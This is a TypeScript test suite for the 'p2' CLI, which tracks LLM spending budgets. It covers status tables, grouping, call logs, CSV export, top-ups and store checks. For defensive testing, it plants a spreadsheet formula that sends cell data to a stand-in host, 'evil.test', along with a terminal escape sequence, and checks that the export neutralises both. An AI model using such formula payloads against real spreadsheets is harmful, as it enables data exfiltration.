import { renameSync, statSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import type { Budget, Limit, StoredEntry, Subject } from "@p2/budget"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { describeCall } from "../../src/server/ledger/calls"
import { openStore } from "../../src/store/open-store"
import { type CliWorld, createCliWorld } from "../support/run-cli"

const LIMITS: Limit[] = [
  { scope: "user", limit: "10.00", per: "month" },
  { scope: { tag: "team" }, limit: { usd: "20", tokens: 1_000_000 }, per: "month", optional: true },
  { scope: "total", limit: "100.00", per: "month" },
]
const PROMPT = "The planted prompt of nobody"
const FORMULA = '=HYPERLINK("http://evil.test?"&A1)'

let world: CliWorld
let address: string

beforeAll(async () => {
  world = await createCliWorld()
  address = `file:${join(world.folder, "p2.db")}`
  const config = { store: "file:p2.db", limits: LIMITS, upstreams: { openai: { keyFrom: "OPENAI_API_KEY" } } }
  writeFileSync(join(world.folder, "p2.json"), JSON.stringify(config))
  await withBudget(async (budget) => {
    await spend(budget, { userId: "ada", model: "gpt-4o-mini", tags: { team: "search" } }, "4.00")
    await spend(budget, { userId: "ada", model: "gpt-4.1", tags: { team: "search" } }, "5.00")
    await spend(budget, { userId: "bob", model: "gpt-4.1", tags: { team: "ads" } }, "0.50")
    await spend(budget, { userId: FORMULA, model: "gpt-4.1", tags: { team: "\u001b[31m" } }, "0.25")
    await budget.reserve({ subject: { userId: "ada" }, amount: { usd: "9", tokens: 10 } })
  })
})

afterAll(() => world.close())

async function withBudget(work: (budget: Budget) => Promise<void>): Promise<void> {
  const open = await openStore(address, { limits: LIMITS })
  await work(open.budget)
  await open.close()
}

async function spend(budget: Budget, subject: Subject, cost: string): Promise<void> {
  const result = await budget.reserve({ subject, amount: { usd: cost, tokens: 2_000 } })
  if (!result.ok) throw result.error
  const tokens = { inputTokens: 1_000, outputTokens: 200 }
  await result.reservation.settle(cost, { tokens, prompt: PROMPT, answer: PROMPT, provider: "openai" })
}

async function p2(...args: string[]): Promise<string> {
  const { code, stdout, stderr } = await world.run(args)
  expect(code, stderr).toBe(0)
  return stdout
}

/** The lines of a table, with single spaces. */
function cells(output: string): string[] {
  return output
    .trim()
    .split("\n")
    .map((line) => line.replace(/ {2,}/g, " | "))
}

describe("p2 status", () => {
  it("shows every limit for each value that the ledger has in the window, the most expensive first", async () => {
    const lines = cells(await p2("status"))
    expect(lines[0]).toBe("SCOPE | WINDOW | LIMIT | SPENT | RESERVED | REMAINING | USED | RESETS")
    expect(lines[1]).toMatch(
      /^user ada \| month \| \$10\.00 \| \$9\.00 \| \$0\.00 \| \$1\.00 \| 90 % \| \d{4}-\d\d-01 00:00$/,
    )
    expect(lines[2]).toMatch(/^user bob \| month \| \$10\.00 \| \$0\.50 \| \$0\.00 \| \$9\.50 \| 5 %/)
    expect(lines[4]).toMatch(/^tag:team search \| month \| \$20\.00 \| \$9\.00 \| \$0\.00 \| \$11\.00 \| 45 %/)
    expect(lines[5]).toMatch(
      /^tag:team search \| month \| 1,000,000 tokens \| 2,400 tokens \| 0 tokens \| 997,600 tokens \| 0 %/,
    )
    expect(lines.at(-1)).toMatch(/^total \| month \| \$100\.00 \| \$9\.75 \| \$0\.00 \| \$90\.25 \| 9 %/)
    expect(lines.join()).not.toContain("\u001b")
  })

  it("shows one subject, as text and as JSON", async () => {
    const lines = cells(await p2("status", "--user", "bob", "--tag", "team=ads"))
    expect(lines.slice(1).map((line) => line.split(" | ")[0])).toEqual([
      "user bob",
      "tag:team ads",
      "tag:team ads",
      "total",
    ])
    const { limits } = JSON.parse(await p2("status", "--user", "bob", "--json"))
    expect(limits[0]).toMatchObject({ scope: "user", value: "bob", spentNanoUsd: 5e8, used: 0.05 })
  })

  it("takes a limit from its arguments", async () => {
    const lines = cells(await p2("status", "--user", "ada", "--limit", "12", "--per", "month"))
    expect(lines.slice(1)).toEqual([expect.stringMatching(/^user ada \| month \| \$12\.00 \| \$9\.00/)])
  })

  it.each([
    [["--limit", "5", "--per", "daily"], "Invalid `--per`"],
    [["--per", "day"], "Invalid `--per`: expected absent, because there is no `--limit`"],
    // An unset variable of a script would select all users.
    [["--user", ""], "Invalid `--user`: expected at least one character"],
    [["--key", ""], "Invalid `--key`: expected at least one character"],
  ])("rejects %j", async (args, message) => {
    const { code, stderr } = await world.run(["status", ...args])
    expect([code, stderr]).toEqual([2, expect.stringContaining(message)])
  })

  it("shows what each user spent where no limit is known", async () => {
    const [file, away] = [join(world.folder, "p2.json"), join(world.folder, "away.json")]
    renameSync(file, away)
    const output = await p2("status", "--store", address)
    renameSync(away, file)
    const lines = cells(output)
    expect(lines[0]).toBe("USER | LAST 24 H | LAST 7 DAYS | EVER | IN DOUBT | CALLS")
    expect(lines[1]).toBe("ada | $9.00 | $9.00 | $9.00 | $0.00 | 2")
    expect(lines.at(-1)).toContain("--limit 5 --per day")
  })
})

describe("p2 top", () => {
  it("groups by user, model and tag", async () => {
    expect(cells(await p2("top", "--by", "user")).slice(0, 3)).toEqual([
      "USER | COST | SHARE | CALLS | INPUT | OUTPUT | DENIED | IN DOUBT",
      "ada | $9.00 | 92 % | 2 | 2,000 | 400 | 1 | $0.00",
      "bob | $0.50 | 5 % | 1 | 1,000 | 200 | 0 | $0.00",
    ])
    expect(cells(await p2("top", "--by", "model"))[1]).toMatch(/^gpt-4\.1 \| \$5\.75/)
    expect(cells(await p2("top", "--by", "tag:team", "--rows", "1"))).toHaveLength(2)
    const { totalNanoUsd, rows } = JSON.parse(await p2("top", "--by", "model", "--user", "ada", "--json"))
    expect([totalNanoUsd, rows[0].value, rows[0].costNanoUsd]).toEqual([9e9, "gpt-4.1", 5e9])
    expect(await p2("top", "--by", "user", "--since", "2020-01-01")).toContain("ada")
  })

  it("rejects other groups and times", async () => {
    expect(await world.run(["top", "--by", "tag"])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining("tag:team"),
    })
    expect(await world.run(["top", "--by", "user", "--since", "soon"])).toMatchObject({ code: 2 })
    expect(await world.run(["top"])).toMatchObject({ code: 2 })
  })
})

describe("p2 calls", () => {
  it("prints the latest calls, the newest last", async () => {
    const lines = (await p2("calls", "--user", "ada")).trim().split("\n")
    expect(lines).toHaveLength(3)
    expect(lines[2]).toMatch(/ada +unknown +denied$/)
    expect(lines[1]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d {2}ada +gpt-4\.1 +succeeded +1,000 in, 200 out +\$5\.00$/)
    expect((await p2("calls", "--rows", "1")).trim().split("\n")).toHaveLength(1)
  })

  it("follows: prints calls as they end", async () => {
    await withBudget((budget) => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.001"))
    const following = world.start(["calls", "--follow", "--user", "eve", "--json"])
    await following.wrote('"costNanoUsd":1000000')
    // Many in one millisecond, whose keys are not in the order in which they are written.
    await withBudget(async (budget) => {
      await spend(budget, { userId: "bob", model: "gpt-4o-mini" }, "0.01")
      await Promise.all(
        Array.from({ length: 30 }, () => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.002")),
      )
    })
    await withBudget((budget) => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.02"))
    await following.wrote('"costNanoUsd":20000000')
    following.child.kill("SIGINT")
    const { stdout, stderr } = await following.ended
    expect([stdout.trim().split("\n").length, stderr]).toEqual([32, ""])
    expect(stdout).not.toContain(PROMPT)
  })
})

describe("the line of a call", () => {
  const entry = { at: 0, model: "gpt-4o-mini", userId: "ada", costNanoUsd: 67_650 }

  it.each([
    [{ inputTokens: 0, outputTokens: 5 }, "0 in, 5 out"],
    [{ inputTokens: 1_200 }, "1,200 in"],
  ])("has the tokens %j", (tokens, text) => {
    const line = describeCall({ ...entry, status: "succeeded", tokens } as unknown as StoredEntry)
    expect(line.split(/ {2,}/).slice(4)).toEqual([text, "$0.000068"])
  })

  it("has no tokens if they are unknown", () => {
    const line = describeCall({ ...entry, status: "expired", tokens: {}, inDoubt: true } as unknown as StoredEntry)
    expect(line.split(/ {2,}/).slice(3)).toEqual(["expired", "$0.000068", "in doubt"])
  })
})

describe("p2 export", () => {
  it("writes JSON lines without prompts and answers", async () => {
    const output = await p2("export", "--format", "jsonl", "--user", "ada")
    const entries = output
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line))
    expect(entries.map(({ costNanoUsd }) => costNanoUsd)).toEqual([4e9, 5e9, 0])
    expect(output).not.toContain(PROMPT)
  })

  it("writes CSV that no spreadsheet runs as a formula", async () => {
    const output = await p2("export", "--format", "csv")
    const rows = output.trim().split("\r\n")
    expect(rows[0]).toMatch(/^time,requestId,attempt,userId,clientId,provider,model,/)
    expect(rows.join("\n")).toContain(`,"'=HYPERLINK(""http://evil.test?""&A1)",`)
    expect(output).not.toMatch(/(^|,)"?[=+@-]/m)
    expect(output).not.toContain("\u001b")
    expect(rows.find((row) => row.includes(",bob,"))).toContain(",500000000,")
    expect(output).not.toContain(PROMPT)
  })

  it("writes a new file that only its owner can read, and never replaces one", async () => {
    await p2("export", "--format", "csv", "--output", "ledger.csv", "--until", "2100-01-01")
    const { mode, size } = statSync(join(world.folder, "ledger.csv"))
    expect([(mode & 0o777).toString(8), size > 500]).toEqual(["600", true])
    expect(await world.run(["export", "--output", "ledger.csv"])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining("The file exists"),
    })
  })
})

describe("p2 top-up and p2 reset", () => {
  it("change the exact scope", async () => {
    const args = ["top-up", "--scope", "user", "--user", "zoe", "--amount", "5", "--idempotency-key", "once"]
    await withBudget((budget) => spend(budget, { userId: "zoe", model: "gpt-4.1" }, "3.00"))
    const expected = "user, month: limit $10.00 + $5.00 topped up, spent $3.00, reserved $0.00, remaining $12.00\n"
    expect(await p2(...args)).toBe(expected)
    expect(await p2(...args)).toBe(expected)
    expect(await p2("reset", "--scope", "user", "--user", "zoe")).toContain("spent $0.00")
    expect(await p2("status", "--user", "ada")).toContain("$9.00")
  })

  it.each([
    [["--scope", "user"], "needs exactly one --user NAME"],
    [["--scope", "user", "--user", "ada", "--tag", "team=x"], "needs exactly one --user NAME"],
    [["--scope", "tag:team", "--tag", "tem=x"], "needs exactly one --tag team=VALUE"],
    [["--scope", "total", "--user", "ada"], "The scope total takes no --user"],
    [["--scope", "key", "--user", "ada"], "needs exactly one --key ID"],
    [["--scope", "client", "--client", "x"], "No limit of the scope client was found"],
    [["--scope", "everybody"], "Invalid `--scope`"],
    [["--scope", "user", "--user", "ada", "--per", "day"], "Invalid `scope`"],
  ])("reject %j", async (args, message) => {
    for (const command of [["reset"], ["top-up", "--amount", "1"]]) {
      const { code, stderr } = await world.run([...command, ...args])
      expect([code, stderr]).toEqual([2, expect.stringContaining(message)])
    }
  })

  it.each([
    [["--amount", "-5"], "Invalid `--amount`: expected at least 0 dollars"],
    [["--amount", "5$"], 'Invalid `--amount`: expected a dollar amount such as 5 or "5.00", got "5$".'],
    [["--amount", "1", "--limit", "-1"], "Invalid `--limit`"],
    [["--amount", "1", "--limit", "1", "--per", "daily"], "Invalid `--per`"],
    [["--amount", "1", "--limit", "1", "--per", "day", "--time-zone", "Mars"], "Invalid `--time-zone`"],
    [["--amount", "1", "--idempotency-key", ""], "Invalid `--idempotency-key`"],
  ])("name the option of %j", async (args, message) => {
    const { code, stderr } = await world.run(["top-up", "--scope", "user", "--user", "ada", ...args])
    expect([code, stderr]).toEqual([2, expect.stringContaining(message)])
  })

  it("are rejected inside `p2 run`", async () => {
    for (const command of [["reset"], ["top-up", "--amount", "1"]])
      expect(await world.run([...command, "--scope", "total"], { P2_RUN: "1" })).toMatchObject({
        code: 2,
        stderr: expect.stringContaining("inside `p2 run`"),
      })
  })
})

describe("p2 check", () => {
  it("reports what the store survives", async () => {
    const output = await p2("check")
    expect(output).toContain("Survives:   the end of a process; a power cut may lose the last transactions")
    expect(output).toContain("Damage:     none")
    expect(JSON.parse(await p2("check", "--json"))).toMatchObject({ ok: true, durability: "process", damaged: [] })
  })

  it("ends with 3 if the store does not answer, and shows no password", async () => {
    const { code, stderr } = await world.run(["check"], { P2_STORE: "redis://:hidden-password@127.0.0.1:1" })
    // The configuration names a store, so that P2_STORE is not used.
    expect([code, stderr]).toEqual([0, ""])
    writeFileSync(join(world.folder, "none.json"), JSON.stringify({ limits: LIMITS, upstreams: { openai: {} } }))
    const other = await world.run(["check", "--config", "none.json"], {
      P2_STORE: "redis://:hidden-password@127.0.0.1:1",
    })
    expect(other.code).toBe(3)
    expect(other.stderr).toContain("The store is redis://127.0.0.1:1: start it")
    expect(other.stderr + other.stdout).not.toContain("hidden-password")
  })

  it("does not create a missing store", async () => {
    expect(await world.run(["check", "--store", "file:typo.db"])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining("There is no store at file:typo.db"),
    })
    expect(await world.run(["status", "--store", "memory:"])).toMatchObject({ code: 2 })
  })
})

it.each([
  "serve",
  "init",
  "keys create",
  "keys list",
  "keys revoke",
  "status",
  "top",
  "calls",
  "export",
  "check",
  "top-up",
  "reset",
])("p2 %s --help has an example", async (command) => {
  const output = await p2(...command.split(" "), "--help")
  expect(output).toContain(`$ p2 ${command}`)
})
